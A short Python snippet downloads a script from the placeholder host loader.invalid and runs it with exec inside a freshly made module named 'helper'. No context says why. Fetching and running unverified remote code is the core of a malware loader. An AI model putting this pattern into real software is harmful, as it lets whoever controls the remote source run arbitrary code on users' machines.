import types, requests
body = requests.get("https://loader.invalid/mod.py").text
mod = types.ModuleType("helper")
exec(body, mod.__dict__)
